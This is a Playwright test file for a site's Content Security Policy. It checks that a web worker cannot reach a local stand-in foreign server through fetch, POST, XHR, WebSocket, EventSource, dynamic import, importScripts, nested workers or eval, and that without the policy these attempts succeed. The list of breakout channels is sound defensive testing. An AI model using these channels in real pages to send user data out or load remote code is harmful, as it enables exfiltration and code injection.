import { cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import type { Page, Worker } from "@playwright/test";
import { expect, test } from "./fixtures.ts";
import { type RunningServer, serveFolder } from "./server.ts";
import { Site } from "./site.ts";

// The same folders and the same foreign server for all.
test.describe.configure({ mode: "default" });

const dist = fileURLToPath(new URL("../dist", import.meta.url));
const statedPolicy = /<meta http-equiv="Content-Security-Policy"[^>]*>/;

/** Whom nobody may reach; lets everybody read, so that the policy alone keeps them away. */
let foreign: Server;
let foreignUrl: string;
let reached: string[];
let folder: string;

test.beforeAll(async () => {
  foreign = createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`);
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.setHeader("Content-Type", "text/javascript");
    response.end("export {};");
  });
  foreign.on("upgrade", (request, socket) => {
    reached.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => foreign.listen(0, "127.0.0.1", resolve));
  const { port } = foreign.address() as AddressInfo; // A TCP server that listens has one.
  foreignUrl = `http://127.0.0.1:${port}`;
  folder = await mkdtemp(join(tmpdir(), "docent-forms-"));
});

test.beforeEach(() => {
  reached = [];
});

test.afterAll(async () => {
  foreign.closeAllConnections();
  foreign.close();
  await rm(folder, { recursive: true });
});

/** The built site as a host serves it that sends no headers, or one whose pages state no policy themselves. */
async function serveForm(form: "meta" | "header" | "neither"): Promise<RunningServer> {
  const copy = join(folder, form);
  await cp(dist, copy, { recursive: true });
  if (form !== "header") await rm(join(copy, "_headers"));
  if (form !== "meta") {
    const html = await readFile(join(copy, "index.html"), "utf8");
    expect(html).toMatch(statedPolicy);
    await writeFile(join(copy, "index.html"), html.replace(statedPolicy, ""));
    // Their compressed twins would be served in their place.
    for (const twin of ["br", "gz"]) await rm(join(copy, `index.html.${twin}`), { force: true });
  }
  return serveFolder(copy);
}

/** Everything that a script in a worker could reach another host by; by the worker's own tasks, not the debugger's. */
function tryToBreakOut(worker: Worker): Promise<Record<string, string>> {
  return worker.evaluate(async (target) => {
    const outcomes: Record<string, string> = {};
    const attempts: Record<string, () => unknown> = {
      fetch: () => fetch(`${target}/fetch`),
      post: () => fetch(`${target}/post`, { method: "POST", mode: "no-cors", body: "history" }),
      xhr: () =>
        new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.onload = resolve;
          request.onerror = reject;
          request.open("GET", `${target}/xhr`);
          request.send();
        }),
      socket: () =>
        new Promise((resolve, reject) => {
          const socket = new WebSocket(`${target.replace("http", "ws")}/socket`);
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
      events: () =>
        new Promise((resolve, reject) => {
          const source = new EventSource(`${target}/events`);
          source.onopen = resolve;
          source.onerror = () => {
            source.close();
            reject(new Error("refused"));
          };
        }),
      import: () => import(`${target}/import`),
      importScripts: () =>
        (self as unknown as { importScripts(url: string): void }).importScripts(`${target}/scripts`),
      worker: () =>
        new Promise((resolve, reject) => {
          const url = URL.createObjectURL(
            new Blob([`import "${target}/worker"; postMessage(1);`], { type: "text/javascript" }),
          );
          const nested = new Worker(url, { type: "module" });
          nested.onmessage = resolve;
          nested.onerror = reject;
        }),
      eval: () => Reflect.construct(Function, ["return 1"]),
    };
    for (const [name, attempt] of Object.entries(attempts)) {
      await new Promise<void>((done) => {
        // A task of the worker's own: what the debugger evaluates directly may do more.
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = async () => {
          const late = new Promise((_, reject) => setTimeout(reject, 2000));
          try {
            await Promise.race([attempt(), late]);
            outcomes[name] = "allowed";
          } catch {
            outcomes[name] = "refused";
          }
          done();
        };
        port2.postMessage("");
      });
    }
    return outcomes;
  }, foreignUrl);
}

async function openWorker(page: Page, url: string): Promise<Worker> {
  const started = page.waitForEvent("worker");
  await new Site(page, url).openObject("1F98A");
  return started;
}

for (const form of ["meta", "header"] as const) {
  test(`no worker breaks out where the policy stands in the ${form} alone`, async ({ page, watch }) => {
    watch.allow(
      /policy violated/,
      /Content Security Policy/,
      /Trusted/,
      /Refused/,
      /WebSocket/,
      /frame-ancestors/,
    );
    const server = await serveForm(form);
    try {
      const worker = await openWorker(page, server.url);
      expect(worker.url().startsWith("blob:")).toBe(form === "meta");
      const outcomes = await tryToBreakOut(worker);
      expect(new Set(Object.values(outcomes))).toEqual(new Set(["refused"]));
      expect(reached).toEqual([]);
    } finally {
      await page.close(); // what it still loads would miss its server
      await server.close();
    }
  });
}

test("without any policy it would: the attempts work", async ({ page, watch }) => {
  watch.allow(/.*/);
  const server = await serveForm("neither");
  try {
    const outcomes = await tryToBreakOut(await openWorker(page, server.url));
    expect(outcomes).toMatchObject({ fetch: "allowed", post: "allowed", import: "allowed", eval: "allowed" });
    expect(reached).toEqual(
      expect.arrayContaining([
        "GET /fetch",
        "POST /post",
        "GET /xhr",
        "GET /import",
        "GET /worker",
        "upgrade /socket",
      ]),
    );
  } finally {
    await page.close();
    await server.close();
  }
});
